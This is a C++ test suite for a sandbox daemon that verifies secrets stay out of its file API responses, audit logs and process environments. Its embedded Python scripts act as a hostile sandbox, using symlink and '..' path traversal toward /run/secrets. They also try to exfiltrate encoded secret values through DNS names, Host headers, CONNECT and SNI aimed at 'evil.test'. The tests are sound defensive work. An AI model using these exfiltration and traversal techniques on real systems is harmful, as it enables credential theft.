// Secrets that still leaked (issue 12, item 7), each tried as a hostile
// sandbox or a careless client would, and checked from outside:
//   - the file API: corral's own secret files (/run/secrets) are served by
//     no route, however the path reaches them; names and link targets that
//     hold a value or a token (plain, hex, base64) come back redacted in
//     every answer, error messages and echoed paths included;
//   - the audit log on disk: no value or broker token, in any letter case or
//     encoding the redactor knows, from any record a sandbox can trigger
//     (DNS name, HTTP Host, CONNECT target, SNI, gateway path and query);
//   - the daemon's environment: init and the zygote of every sandbox carry
//     none of it (/proc/<pid>/environ read from the host).
// Values are random per test and reach the sandbox only through the store.
#include <dirent.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <map>
#include <nlohmann/json.hpp>
#include <random>
#include <sstream>
#include <string>
#include <vector>

#include "api/base64.h"
#include "base/sha256.h"
#include "support/daemon_harness.h"
#include "support/net_client.h"
#include "support/net_world.h"
#include "support/sandbox_harness.h"
#include "support/secret_file.h"

namespace corral::testing {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;

// Letters of both cases and digits, so that a lower- or upper-cased copy
// differs from the value.
std::string random_mixed(std::size_t n) { return "Vq" + random_token(n - 2); }

std::string lower(std::string s) {
  for (char& c : s) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return s;
}

std::string hex_of(std::string_view s, bool upper) {
  const char* digits = upper ? "0123456789ABCDEF" : "0123456789abcdef";
  std::string out;
  for (unsigned char c : s) {
    out += digits[c >> 4];
    out += digits[c & 0xf];
  }
  return out;
}

std::string url_safe(std::string b64) {
  std::replace(b64.begin(), b64.end(), '+', '-');
  std::replace(b64.begin(), b64.end(), '/', '_');
  while (!b64.empty() && b64.back() == '=') b64.pop_back();
  return b64;
}

// The forms of a value the redactor knows, whole: the value, its hex and
// its base64 (both alphabets, unpadded; the padded form contains it).
std::vector<std::string> forms_of(const std::string& v) {
  std::string b64 = api::base64_encode(v);
  std::string unpadded = b64;
  while (!unpadded.empty() && unpadded.back() == '=') unpadded.pop_back();
  return {v, hex_of(v, false), hex_of(v, true), unpadded, url_safe(b64)};
}

// The first form of any of `values` that `text` holds, compared without
// regard to letter case ("" if none).
std::string leaked(const std::string& text, const std::vector<std::string>& values) {
  const std::string low = lower(text);
  for (const auto& v : values)
    for (const auto& f : forms_of(v))
      if (low.find(lower(f)) != std::string::npos) return f;
  return "";
}

std::string url_encode(std::string_view s) {
  static constexpr char kHex[] = "0123456789ABCDEF";
  std::string out;
  for (char ch : s) {
    auto c = static_cast<unsigned char>(ch);
    if (std::isalnum(c) || c == '-' || c == '.' || c == '_' || c == '~' || c == '/') {
      out.push_back(ch);
    } else {
      out.push_back('%');
      out.push_back(kHex[c >> 4]);
      out.push_back(kHex[c & 0xf]);
    }
  }
  return out;
}

std::string code_of(const HttpReply& r) {
  json j = r.json();
  if (!j.is_object() || !j.contains("error") || !j["error"].is_object()) return "";
  return j["error"].value("code", "");
}

std::string read_text(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

// A store file of mixed-case random values (as random_mixed(30)), mode 0600.
struct StoreFile : SecretFile {
  explicit StoreFile(const std::vector<std::string>& keys) : SecretFile(keys, "Vq", 28) {}
};

// The file routes of one sandbox, each answer checked for a leak.
struct Files {
  TestDaemon& d;
  std::string id;
  std::vector<std::string> secrets;  // values and tokens that must never come back
  std::string base() const { return "/v1/sandboxes/" + id; }
  HttpReply checked(HttpReply r, const std::string& what) {
    std::string all = r.body;
    for (const auto& h : r.headers) all += "\n" + h.name + ": " + h.value;
    EXPECT_EQ(leaked(all, secrets), "")
        << what << " answered with a secret: " << r.status << " " << r.body;
    return r;
  }
  HttpReply get(const std::string& p) {
    return checked(d.request("GET", base() + "/files?path=" + url_encode(p)), "download " + p);
  }
  HttpReply put(const std::string& p, const std::string& data) {
    return checked(d.request("PUT", base() + "/files?path=" + url_encode(p), data, false, true,
                             {{"content-type", "application/octet-stream"}}),
                   "upload " + p);
  }
  HttpReply del(const std::string& p, bool recursive = false) {
    return checked(d.request("DELETE", base() + "/files?path=" + url_encode(p) +
                                           (recursive ? "&recursive=1" : "")),
                   "delete " + p);
  }
  HttpReply stat(const std::string& p) {
    return checked(d.request("GET", base() + "/files/stat?path=" + url_encode(p)), "stat " + p);
  }
  HttpReply list(const std::string& p) {
    return checked(d.request("GET", base() + "/files/list?path=" + url_encode(p)), "list " + p);
  }
  HttpReply mkdir(const std::string& p) {
    return checked(
        d.request("POST", base() + "/files/mkdir", json{{"path", p}, {"parents", true}}.dump()),
        "mkdir " + p);
  }
  HttpReply rename(const std::string& from, const std::string& to) {
    return checked(
        d.request("POST", base() + "/files/rename", json{{"from", from}, {"to", to}}.dump()),
        "rename " + from);
  }
};

json exec_py(TestDaemon& d, const std::string& id, const std::string& script) {
  json body{{"argv", {"/usr/bin/python3", "-c", script}}, {"timeout", 60}};
  return d.request("POST", "/v1/sandboxes/" + id + "/exec", body.dump()).json();
}

// ---- the file API -----------------------------------------------------------------

TEST(SecretLeaks, FileApiServesNoSecretFileByAnyRouteOrPath) {
  if (geteuid() != 0) CORRAL_SKIP_OR_FAIL("daemon tests run as root");
  StoreFile store({"db", "api"});
  TestDaemon d({}, store.config());
  ASSERT_TRUE(d.ready()) << d.output();
  HttpReply created;
  const std::string id = d.create_sandbox(R"({"secrets": [
      {"name": "db", "mode": "file", "path": "db_password"},
      {"name": "api", "mode": "file", "path": "api_key"}]})",
                                          &created);
  ASSERT_FALSE(id.empty()) << created.body;
  const std::string db = store.values["db"], api = store.values["api"];

  // The sandbox reads its own files; it links to them from /workspace.
  json r = exec_py(d, id, R"(
import hashlib, os
os.symlink('/run/secrets', '/workspace/s')
os.symlink('/run/secrets/db_password', '/workspace/direct')
os.makedirs('/workspace/deep/a')
os.symlink('../../../run/secrets', '/workspace/deep/a/up')
print(hashlib.sha256(open('/run/secrets/db_password', 'rb').read()).hexdigest())
)");
  ASSERT_EQ(r.value("exit_code", -1), 0) << r.dump();
  EXPECT_NE(r.value("stdout", "").find(sha256_hex(db)), std::string::npos) << r.dump();

  Files f{d, id, {db, api}};
  // Every way of naming a secret file, by every route: 403 secret_file.
  const std::vector<std::string> paths = {
      "/run/secrets/db_password", "run/secrets//./api_key", "/workspace/s/db_password",
      "/workspace/deep/a/up/api_key", "/run/../run/secrets/db_password"};
  for (const auto& p : paths) {
    const bool dotdot = p.find("..") != std::string::npos;
    for (const HttpReply& reply :
         {f.get(p), f.stat(p), f.put(p, "x"), f.del(p), f.rename(p, "/workspace/stolen")}) {
      if (dotdot) {
        EXPECT_EQ(code_of(reply), "path_escape") << p << ": " << reply.body;
        continue;
      }
      EXPECT_EQ(reply.status, 403) << p << ": " << reply.body;
      EXPECT_EQ(code_of(reply), "secret_file") << p << ": " << reply.body;
    }
  }
  // The directory itself: not listed, not stat'ed, not removed; nothing
  // made in it.
  for (const HttpReply& reply :
       {f.list("/run/secrets"), f.stat("/run/secrets"), f.del("/run/secrets", true),
        f.mkdir("/run/secrets/d"), f.put("/run/secrets/new", "x"),
        f.rename("/workspace/stolen-none", "/run/secrets/planted")}) {
    EXPECT_TRUE(reply.status == 403 && code_of(reply) == "secret_file") << reply.body;
  }
  // A symlink as the last component is never followed (as everywhere).
  EXPECT_EQ(code_of(f.get("/workspace/direct")), "path_escape");
  EXPECT_EQ(code_of(f.list("/workspace/s")), "path_escape");
  // The rest of the sandbox is served as before; /run lists the
  // directory's name, which is no secret.
  HttpReply run = f.list("/run");
  EXPECT_EQ(run.status, 200) << run.body;
  EXPECT_NE(run.body.find("\"secrets\""), std::string::npos) << run.body;
  EXPECT_EQ(f.put("/workspace/ok.txt", "fine").status, 201);
  EXPECT_EQ(f.get("/workspace/ok.txt").body, "fine");

  // Nothing was opened: the read watch saw only the sandbox's own read,
  // and the files are as they were.
  d.wait_audit("file.read", 1);
  for (const auto& ev : d.audit_records("secret.read"))
    EXPECT_NE(ev.value("pid", 0), d.pid()) << "the daemon opened a secret file: " << ev.dump();
  bool audited = false;
  for (const auto& ev : d.audit_records("file.read"))
    audited |= ev.value("error", "") == "secret_file";
  EXPECT_TRUE(audited) << "refused reads are audited with their code";
  r = exec_py(d, id, R"(
import hashlib, os
print(sorted(os.listdir('/run/secrets')), os.path.exists('/workspace/stolen'))
print(hashlib.sha256(open('/run/secrets/db_password', 'rb').read()).hexdigest())
)");
  EXPECT_NE(r.value("stdout", "").find("['api_key', 'db_password'] False"), std::string::npos)
      << r.dump();
  EXPECT_NE(r.value("stdout", "").find(sha256_hex(db)), std::string::npos) << r.dump();
  EXPECT_EQ(d.request("DELETE", "/v1/sandboxes/" + id).status, 200);
}

TEST(SecretLeaks, FileApiRedactsNamesLinkTargetsEchoedPathsAndErrors) {
  if (geteuid() != 0) CORRAL_SKIP_OR_FAIL("daemon tests run as root");
  StoreFile store({"api", "db", "search"});
  TestDaemon d({}, store.config());
  ASSERT_TRUE(d.ready()) << d.output();
  HttpReply created;
  const std::string id = d.create_sandbox(R"({"secrets": [
      {"name": "api", "tier": "low"},
      {"name": "db", "mode": "file", "path": "db_password"},
      {"name": "search", "tier": "medium", "mode": "broker", "hosts": ["www.allowed.test"]}]})",
                                          &created);
  ASSERT_FALSE(id.empty()) << created.body;
  const std::string api = store.values["api"], db = store.values["db"];

  // Names after each secret in each form, directories named after them
  // with files inside, symlinks pointing at them. The token comes out
  // reversed (no redactor pattern), so the test knows it too.
  json r = exec_py(d, id, R"(
import base64, os
vals = [os.environ['API'], open('/run/secrets/db_password').read(), os.environ['SEARCH']]
print('tok', vals[2][::-1])
root = '/workspace/names'
os.makedirs(root)
def touch(p): open(p, 'w').close()
for i, v in enumerate(vals):
    b = v.encode()
    for j, name in enumerate([v, 'pre-' + v + '-post', b.hex(), b.hex().upper(),
                              base64.urlsafe_b64encode(b).decode().rstrip('=')]):
        touch(os.path.join(root, name))
    for j, target in enumerate([v, '/x/' + v + '/y', base64.b64encode(b).decode(), b.hex()]):
        os.symlink(target, os.path.join(root, 'link%d-%d' % (i, j)))
    os.makedirs(os.path.join(root, 'dir-' + v, 'sub-' + v))
    touch(os.path.join(root, 'dir-' + v, 'sub-' + v, 'f-' + v))
# Usually 30; one fewer per value whose hex has no letter (hex == HEX).
print('entries', len(os.listdir(root)))
)");
  ASSERT_EQ(r.value("exit_code", -1), 0) << r.dump();
  std::string out = r.value("stdout", "");
  std::string token;
  if (auto at = out.find("tok "); at != std::string::npos)
    token = out.substr(at + 4, out.find('\n', at) - at - 4);
  std::reverse(token.begin(), token.end());
  ASSERT_EQ(token.rfind("corral_tok_", 0), 0u) << out;
  std::size_t made = 0;
  if (auto at = out.find("entries "); at != std::string::npos)
    made = std::stoul(out.substr(at + 8));
  // 3 values x (5 names + 4 links + 1 directory), less a hex name that
  // is its own upper case (no letter in it: about 1 run in 600).
  ASSERT_GE(made, 3u * (5 + 4 + 1) - 3) << out;

  Files f{d, id, {api, db, token}};
  const std::string root = "/workspace/names";
  const std::vector<std::pair<std::string, std::string>> named = {
      {api, "api"}, {db, "db"}, {token, "search"}};

  // The listing: every entry is there, and each one named after a secret
  // shows its placeholder.
  HttpReply top = f.list(root);
  ASSERT_EQ(top.status, 200) << top.body;
  json entries = top.json()["entries"];
  EXPECT_EQ(entries.size(), made);
  for (const auto& [value, name] : named)
    EXPECT_NE(top.body.find("[REDACTED:" + name + "]"), std::string::npos) << name << top.body;
  int redacted_targets = 0;
  for (const auto& e : entries)
    redacted_targets += e.value("link_target", "").find("[REDACTED:") != std::string::npos;
  EXPECT_EQ(redacted_targets, 3 * 4) << top.body;

  // Down the tree by the names the client knows: list and stat of each
  // directory, file and link, and a missing name's error.
  for (std::size_t i = 0; i < named.size(); ++i) {
    const auto& [value, name] = named[i];
    const std::string dir = root + "/dir-" + value, sub = dir + "/sub-" + value;
    for (const auto& p : {dir, sub}) EXPECT_EQ(f.list(p).status, 200) << p;
    for (const auto& p : {dir, sub, sub + "/f-" + value, root + "/pre-" + value + "-post"})
      EXPECT_EQ(f.stat(p).status, 200) << p;
    for (int j = 0; j < 4; ++j) {
      HttpReply s = f.stat(root + "/link" + std::to_string(i) + "-" + std::to_string(j));
      EXPECT_EQ(s.status, 200) << s.body;
      EXPECT_NE(s.json().value("link_target", "").find("[REDACTED:" + name + "]"),
                std::string::npos)
          << s.body;
    }
    HttpReply missing = f.stat(root + "/missing-" + value);
    EXPECT_EQ(missing.status, 404) << missing.body;
    EXPECT_NE(missing.body.find("[REDACTED:" + name + "]"), std::string::npos) << missing.body;

    // Upload, rename, mkdir, delete: the paths echoed are redacted, the
    // files are made under their real names.
    HttpReply up = f.put(root + "/up-" + value, "data");
    EXPECT_EQ(up.status, 201) << up.body;
    EXPECT_EQ(f.rename(root + "/up-" + value, root + "/ren-" + value).status, 200);
    EXPECT_EQ(f.mkdir(root + "/mk-" + value + "/deeper").status, 201);
    HttpReply refused = f.rename(root + "/gone-" + value, root + "/x");
    EXPECT_EQ(refused.status, 404) << refused.body;
    EXPECT_EQ(f.del(root + "/ren-" + value).status, 200);
    EXPECT_EQ(f.del(root + "/mk-" + value, true).status, 200);
  }
  r = exec_py(d, id, R"(
import os
print(len(os.listdir('/workspace/names')))
)");
  EXPECT_EQ(r.value("stdout", ""), std::to_string(made) + "\n") << r.dump();
  EXPECT_EQ(d.request("DELETE", "/v1/sandboxes/" + id).status, 200);
}

// ---- the audit log ---------------------------------------------------------------

// Every audit log file of the daemon (a rotated set included), as one text.
std::string audit_text(const TestDaemon& d) {
  std::string all;
  for (const auto& e : fs::directory_iterator(d.data_dir())) {
    if (e.path().filename().string().rfind("audit", 0) == 0 && e.is_regular_file())
      all += read_text(e.path().string());
  }
  return all;
}

TEST(SecretLeaks, AuditRecordsHoldNoValueOrTokenInAnyCase) {
  if (geteuid() != 0) CORRAL_SKIP_OR_FAIL("network tests run as root");
  auto world_or = NetWorld::create();
  ASSERT_TRUE(world_or.has_value()) << world_or.error().message;
  NetWorld& world = **world_or;
  StoreFile store({"api", "search"});
  const std::string config =
      store.config() + "  network:\n    dns_servers: [\"" + world.dns_endpoint() +
      "\"]\n    upstream_ca_file: " + world.ca_pem_path() +
      "\n    gateway:\n      - name: llm\n        url: https://allowed.test/v1\n"
      "        methods: [GET, POST]\n";
  TestDaemon d({}, config);
  ASSERT_TRUE(d.ready()) << d.output();
  HttpReply created;
  const std::string id = d.create_sandbox(R"({
    "network": {"mode": "allowlist", "allow": ["allowed.test:443", "http://allowed.test:80"],
                "gateway": ["llm"]},
    "secrets": [{"name": "api", "tier": "low"},
                {"name": "search", "tier": "medium", "mode": "broker",
                 "hosts": ["www.allowed.test"]}]})",
                                          &created);
  ASSERT_FALSE(id.empty()) << created.body;
  const std::string api = store.values["api"];

  // Each secret in each letter case and in hex and base64, put where a
  // sandbox controls what is audited: a DNS name, a Host header, a CONNECT
  // target, an SNI, a gateway path and a gateway query.
  const std::string script = std::string(kNetClientPy) + R"(
import base64
tok = os.environ['SEARCH']
print('tok', tok[::-1])
variants = []
for v in (os.environ['API'], tok):
    variants += [v, v.lower(), v.upper(), v.swapcase()]
    b = v.encode()
    variants += [b.hex(), b.hex().upper(), base64.urlsafe_b64encode(b).decode().rstrip('=')]
for i, x in enumerate(variants):
    label = x if len(x) <= 63 else x[:63]
    try: socket.getaddrinfo(label + '.evil.test', 80)
    except Exception: pass
    transparent_http(label + '.evil.test', connect_to=')" +
                             std::string(NetWorld::kAllowedAddress) + R"(')
    try: connect_via_proxy(label + '.evil.test:443')[0].close()
    except Exception: pass
    tls_get(')" + std::string(NetWorld::kAllowedAddress) +
                             R"(', sni=label.lower() + '.evil.test')
    gw('GET', '/llm/' + x)
    gw('GET', '/llm/q?key=' + x + '&k2=' + x)
    gw('GET', '/nosuch/' + x)
print('done')
)";
  json body{{"argv", {"/usr/bin/python3", "-c", script}}, {"timeout", 240}};
  json r = d.request("POST", "/v1/sandboxes/" + id + "/exec", body.dump()).json();
  const std::string out = r.value("stdout", "");
  ASSERT_NE(out.find("done"), std::string::npos) << r.dump();
  std::string token;
  if (auto at = out.find("tok "); at != std::string::npos)
    token = out.substr(at + 4, out.find('\n', at) - at - 4);
  std::reverse(token.begin(), token.end());
  ASSERT_EQ(token.rfind("corral_tok_", 0), 0u) << out;

  // Each kind of record was written, with the secret replaced.
  const auto redacted = [](const std::vector<json>& records, const char* field) {
    int n = 0;
    for (const auto& ev : records) n += ev.value(field, "").find("[REDACTED:") != std::string::npos;
    return n;
  };
  d.wait_audit("network.gateway", 3 * 14);
  EXPECT_GE(redacted(d.audit_records("network.dns"), "name"), 1);
  const auto connections = d.audit_records("network.connection");
  EXPECT_GE(redacted(connections, "host"), 1);
  EXPECT_GE(redacted(connections, "connect_host"), 1);
  EXPECT_GE(redacted(connections, "sni"), 1);
  EXPECT_GE(redacted(d.audit_records("network.gateway"), "path"), 1);

  // From the file on disk: no value, no token, no form of them, in any case.
  const std::string text = audit_text(d);
  ASSERT_FALSE(text.empty());
  EXPECT_EQ(leaked(text, {api, token}), "");
  EXPECT_EQ(lower(text).find(lower(token.substr(11, 20))), std::string::npos)
      << "a part of the token's body";
  EXPECT_EQ(d.request("DELETE", "/v1/sandboxes/" + id).status, 200);
  EXPECT_EQ(leaked(audit_text(d), {api, token}), "");
}

// ---- the daemon's environment ----------------------------------------------------

std::string environ_of(pid_t pid) { return read_text("/proc/" + std::to_string(pid) + "/environ"); }

pid_t parent_of(pid_t pid) {
  std::ifstream in("/proc/" + std::to_string(pid) + "/status");
  std::string line;
  while (std::getline(in, line))
    if (line.rfind("PPid:", 0) == 0) return std::atoi(line.c_str() + 5);
  return -1;
}

std::string name_of(pid_t pid) {
  std::string comm = read_text("/proc/" + std::to_string(pid) + "/comm");
  while (!comm.empty() && comm.back() == '\n') comm.pop_back();
  return comm;
}

pid_t find_by_cmdline(const std::string& wanted) {
  for (const auto& e : fs::directory_iterator("/proc")) {
    const std::string n = e.path().filename().string();
    if (n.find_first_not_of("0123456789") != std::string::npos) continue;
    if (read_text("/proc/" + n + "/cmdline") == wanted) return std::atoi(n.c_str());
  }
  return -1;
}

TEST(SecretLeaks, InitAndZygoteGetNoneOfTheDaemonsEnvironment) {
  if (geteuid() != 0) CORRAL_SKIP_OR_FAIL("daemon tests run as root");
  const std::string secret = random_mixed(32), plain = random_mixed(24);
  const std::string var = "CORRAL_LEAKS_TEST_KEY";
  ::setenv(var.c_str(), secret.c_str(), 1);
  ::setenv("LEAKS_TEST_PLAIN", plain.c_str(), 1);
  TestDaemon d({}, "serve:\n  secrets:\n    env: [" + var + "]\n");
  ::unsetenv(var.c_str());
  ::unsetenv("LEAKS_TEST_PLAIN");
  ASSERT_TRUE(d.ready()) << d.output();
  ASSERT_NE(environ_of(d.pid()).find(secret), std::string::npos)
      << "the daemon's own environment holds the value (the premise)";

  for (const bool with_secret : {false, true}) {
    const char* spec = with_secret ? R"({"secrets": [{"name": "k", "key": "CORRAL_LEAKS_TEST_KEY",
                                                      "tier": "low", "env_var": "K"}]})"
                                   : "{}";
    HttpReply created;
    const std::string id = d.create_sandbox(spec, &created);
    ASSERT_FALSE(id.empty()) << created.body;
    const std::string arg = "3600." + std::to_string(std::random_device{}() % 1000000);
    HttpReply bg = d.request("POST", "/v1/sandboxes/" + id + "/processes",
                             json{{"argv", {"sleep", arg}}}.dump());
    ASSERT_EQ(bg.status, 201) << bg.body;
    pid_t sleeper = -1;
    for (int i = 0; i < 300 && sleeper < 0; ++i) {
      sleeper = find_by_cmdline(std::string("sleep") + '\0' + arg + '\0');
      if (sleeper < 0) usleep(10000);
    }
    ASSERT_GT(sleeper, 0);
    const pid_t zygote = parent_of(sleeper), init = parent_of(zygote);
    ASSERT_EQ(name_of(zygote), "corral-zygote");
    ASSERT_EQ(name_of(init), "corral-init");
    for (pid_t pid : {init, zygote}) {
      const std::string env = environ_of(pid);
      EXPECT_EQ(env.find('='), std::string::npos)
          << name_of(pid) << " has an environment variable: " << env.substr(0, 200);
      EXPECT_EQ(env.find(secret), std::string::npos) << name_of(pid);
      EXPECT_EQ(env.find(plain), std::string::npos) << name_of(pid);
    }
    // The workload has what its spec gives (K, for the env secret), never
    // the daemon's own variables.
    const std::string env = environ_of(sleeper);
    EXPECT_EQ(env.find("LEAKS_TEST_PLAIN"), std::string::npos);
    EXPECT_EQ(env.find(var + "="), std::string::npos);
    EXPECT_EQ(env.find("K=" + secret) != std::string::npos, with_secret);
    EXPECT_EQ(d.request("DELETE", "/v1/sandboxes/" + id).status, 200);
  }
  // The factory keeps only the few variables it reads itself.
  pid_t factory = -1;
  for (const auto& e : fs::directory_iterator("/proc")) {
    const std::string n = e.path().filename().string();
    if (n.find_first_not_of("0123456789") != std::string::npos) continue;
    const pid_t pid = std::atoi(n.c_str());
    if (parent_of(pid) == d.pid() && name_of(pid) == "corral-factory") factory = pid;
  }
  ASSERT_GT(factory, 0);
  const std::string fenv = environ_of(factory);
  EXPECT_EQ(fenv.find(secret), std::string::npos);
  EXPECT_EQ(fenv.find(plain), std::string::npos);
}

}  // namespace
}  // namespace corral::testing
